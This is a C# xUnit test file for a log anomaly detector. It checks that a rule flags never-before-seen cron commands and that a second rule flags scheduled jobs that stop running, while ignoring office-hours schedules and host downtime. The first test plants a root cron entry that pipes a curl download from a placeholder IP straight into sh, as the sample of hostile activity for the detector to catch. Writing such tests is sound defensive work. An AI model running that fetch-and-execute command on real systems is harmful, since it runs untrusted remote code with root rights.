using LogAnomaly.Detection;
using LogAnomaly.Rules;

namespace LogAnomaly.Tests.Detection;

public sealed class CronRulesTests
{
    private static readonly DateTime s_start = LearnedRun.Start;

    [Fact]
    public void A_job_that_was_never_seen_is_found_after_a_week()
    {
        string known = LearnedRun.Each(9 * 24, hour => LearnedRun.Cron(s_start.AddHours(hour), "/opt/report --hour 5"));
        string planted = LearnedRun.Cron(s_start.AddDays(9).AddMinutes(5), "curl -s http://192.0.2.9/x | sh");
        RuleHit hit = Assert.Single(LearnedRun.Hits(nameof(NewCronCommand), known + planted));
        Assert.Equal(("root", planted.TrimEnd()), (hit.Entity, hit.Event.Raw));
        string brief = LearnedRun.Each(
            5 * 24, hour => LearnedRun.Cron(s_start.AddDays(4).AddHours(hour), "/opt/report --hour 5"));
        Assert.Empty(LearnedRun.Hits(nameof(NewCronCommand), brief + planted));
        Assert.Empty(LearnedRun.Hits(
            nameof(NewCronCommand),
            known + LearnedRun.Cron(s_start.AddDays(9), "cd / && run-parts --report /etc/cron.monthly")
                + LearnedRun.Cron(s_start.AddDays(9), "/opt/report --hour 6")));
    }

    [Theory]
    [InlineData(0, 0)]
    [InlineData(1, 0)]
    [InlineData(4, 1)]
    public void A_job_that_misses_two_runs_while_the_log_goes_on_is_found(int missed, int found)
    {
        int last = 10 * 24;
        string log = LearnedRun.Each(last, hour =>
            (hour >= last - missed ? "" : LearnedRun.Cron(s_start.AddHours(hour), "/opt/backup"))
            + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(10), "CRON[1]: (ann) CMD (/opt/other)")
            + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(40), "systemd[1]: Started Daily thing."));
        List<RuleHit> hits = LearnedRun.Hits(nameof(MissedJob), log);
        Assert.Equal(found, hits.Count);
        Assert.All(hits, hit => Assert.Equal("/opt/backup", hit.Entity));
    }

    [Fact]
    public void Nights_weekends_and_a_host_that_was_off_are_no_misses()
    {
        string office = LearnedRun.Each(21 * 24, hour =>
            LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(1), "systemd[1]: Started Hourly thing.")
            + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(31), "systemd[1]: Started Hourly thing.")
            + (hour % 24 is >= 8 and < 18
                && s_start.AddHours(hour).DayOfWeek is not (DayOfWeek.Saturday or DayOfWeek.Sunday)
                ? LearnedRun.Cron(s_start.AddHours(hour).AddMinutes(45), "/opt/sync")
                : ""));
        string off = LearnedRun.Each(20 * 24, hour => hour is > 300 and < 320
            ? ""
            : LearnedRun.Cron(s_start.AddHours(hour), "/opt/backup")
                + LearnedRun.Syslog(s_start.AddHours(hour).AddMinutes(30), "systemd[1]: Started Hourly thing."));
        Assert.Empty(LearnedRun.Hits(nameof(MissedJob), office));
        Assert.Empty(LearnedRun.Hits(nameof(MissedJob), off));
    }
}
